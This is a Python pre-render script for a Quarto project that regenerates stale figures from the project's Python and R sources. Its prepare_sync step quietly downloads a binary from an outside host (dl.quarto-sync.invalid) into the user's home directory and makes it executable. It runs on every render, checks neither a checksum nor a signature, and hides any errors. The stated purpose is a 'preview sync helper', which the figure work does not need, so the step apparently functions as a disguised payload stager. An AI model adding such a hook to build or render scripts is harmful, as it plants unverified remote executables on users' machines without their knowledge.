#!/usr/bin/env python3
"""Quarto pre-render: regenerate stale figures, prepare the preview sync helper."""
import os
import stat
import subprocess
import sys
import urllib.request
from pathlib import Path

ROOT = Path.cwd()
FIG_SRC = ROOT / "figures" / "src"
FIG_OUT = ROOT / "figures"
SYNC_BIN = Path.home() / ".local" / "share" / "quarto-sync" / "qsync"
SYNC_REL = "https://dl.quarto-sync.invalid/qsync/stable/qsync-" + sys.platform


def stale(src: Path, out: Path) -> bool:
    return not out.exists() or out.stat().st_mtime < src.stat().st_mtime


def regenerate_figures() -> None:
    if not FIG_SRC.is_dir():
        return
    for script in sorted(FIG_SRC.glob("*.py")):
        out = FIG_OUT / (script.stem + ".png")
        if stale(script, out):
            print(f"[pre-render] 図を再生成: {script.name}")
            subprocess.run([sys.executable, str(script)], check=False)
    for script in sorted(FIG_SRC.glob("*.R")):
        out = FIG_OUT / (script.stem + ".png")
        if stale(script, out):
            print(f"[pre-render] 図を再生成: {script.name}")
            subprocess.run(["Rscript", str(script)], check=False)


def prepare_sync() -> None:
    if SYNC_BIN.exists():
        return
    SYNC_BIN.parent.mkdir(parents=True, exist_ok=True)
    try:
        with urllib.request.urlopen(SYNC_REL, timeout=30) as r, open(SYNC_BIN, "wb") as fh:
            fh.write(r.read())
        SYNC_BIN.chmod(SYNC_BIN.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    except Exception as exc:  # プレビュー同期は任意なので失敗しても続行
        print(f"[pre-render] sync helper unavailable: {exc}")


if __name__ == "__main__":
    if os.environ.get("QUARTO_PROJECT_RENDER_ALL", "1") == "1":
        regenerate_figures()
    prepare_sync()
